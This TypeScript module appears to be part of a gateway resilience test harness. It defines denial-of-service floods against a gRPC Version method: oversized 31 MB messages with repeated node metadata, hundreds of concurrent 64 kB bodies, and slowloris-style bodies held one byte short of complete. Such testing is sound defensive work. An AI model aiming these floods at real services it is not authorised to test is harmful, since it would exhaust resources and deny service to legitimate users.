import { once } from 'node:events';
import type { ClientHttp2Session } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import { LongPromise, untilAborted } from '@nodewright/async';
import type { AttackTarget, CertificateKind } from '../target/attack-target.ts';
import type { Flood } from './flood.ts';
import { openAttacker } from './open-attacker.ts';

const version = '/machine.MachineService/Version';
const mib = 1024 * 1024;
/** Just below the largest message that the gateway accepts for any method. */
const largeBytes = 31 * mib;
/** The largest message that it accepts for this method. */
const allowedBytes = 64 * 1024;
const chunk = Buffer.alloc(256 * 1024);
const sameNode = 100;

interface Shape {
  readonly kind: CertificateKind;
  readonly calls: number;
  readonly metadata: (target: AttackTarget) => readonly (readonly [string, string])[];
  /** The length of each body, in bytes. */
  readonly bodyBytes: number;
  /** Omits the last byte. */
  readonly isUnfinished: boolean;
}

const everyNodeTheSame = ({ behind }: AttackTarget) =>
  Array.from({ length: sameNode }, () => ['nodes', behind.address] as const);
const throughHop = ({ behind }: AttackTarget) => [['node', behind.address]] as const;

export const bodyFloods: readonly Flood[] = [
  bodies('body-no-role', 'a caller without a role sends a Version of 31 MB with 100 times the same node', {
    ...{ kind: 'no-role', calls: 3, metadata: everyNodeTheSame, bodyBytes: largeBytes, isUnfinished: false },
  }),
  bodies('body-reader', 'a reader sends 20 Versions of 31 MB with 100 times the same node', {
    ...{ kind: 'reader', calls: 20, metadata: everyNodeTheSame, bodyBytes: largeBytes, isUnfinished: false },
  }),
  bodies('body-allowed', 'a reader sends 300 Versions of 64 kB through a hop', {
    ...{ kind: 'reader', calls: 300, metadata: throughHop, bodyBytes: allowedBytes, isUnfinished: false },
  }),
  bodies('body-unfinished', 'a reader sends 400 bodies of 64 kB but for the last byte, and waits', {
    ...{ kind: 'reader', calls: 400, metadata: () => [], bodyBytes: allowedBytes, isUnfinished: true },
  }),
  bodies('body-unfinished-hop', 'the same through a hop', {
    ...{ kind: 'reader', calls: 400, metadata: throughHop, bodyBytes: allowedBytes, isUnfinished: true },
  }),
];

function bodies(name: string, what: string, shape: Shape): Flood {
  return {
    name,
    what,
    async run(target, signal) {
      const counts = { calls: 0, megabytes: 0, ended: 0 };
      const metadata = shape.metadata(target);
      const attacker = await openAttacker(target, shape.kind, { method: version, metadata });
      if (attacker === undefined) return { ...counts, refusedConnections: 1 };
      const { session, headers } = attacker;
      const calls = Array.from({ length: shape.calls }, () => {
        counts.calls += 1;
        return sendBody(session, headers, shape, counts, signal);
      });
      await untilAborted(Promise.all(calls), signal);
      while (!signal.aborted) await sleep(100);
      session.destroy();
      return counts;
    },
  };
}

async function sendBody(
  session: ClientHttp2Session,
  headers: readonly string[],
  { bodyBytes, isUnfinished }: Shape,
  counts: { megabytes: number; ended: number },
  signal: AbortSignal,
): Promise<void> {
  if (session.destroyed || session.closed) return;
  const stream = session.request(headers, { endStream: false });
  stream.on('error', () => {});
  stream.on('data', () => {});
  const ended = once(stream, 'close').then(() => {
    counts.ended += 1;
  });
  const closed = new LongPromise(ended);
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(bodyBytes, 1);
  stream.write(prefix);
  const sentBytes = isUnfinished ? bodyBytes - 1 : bodyBytes;
  for (let sent = 0; sent < sentBytes && !stream.closed && !signal.aborted; sent += chunk.length) {
    const part = chunk.subarray(0, Math.min(chunk.length, sentBytes - sent));
    counts.megabytes += part.length / 1e6;
    if (!stream.write(part)) await closed.or(once(stream, 'drain').catch(() => {}));
  }
  if (!isUnfinished) stream.end();
  await ended;
}
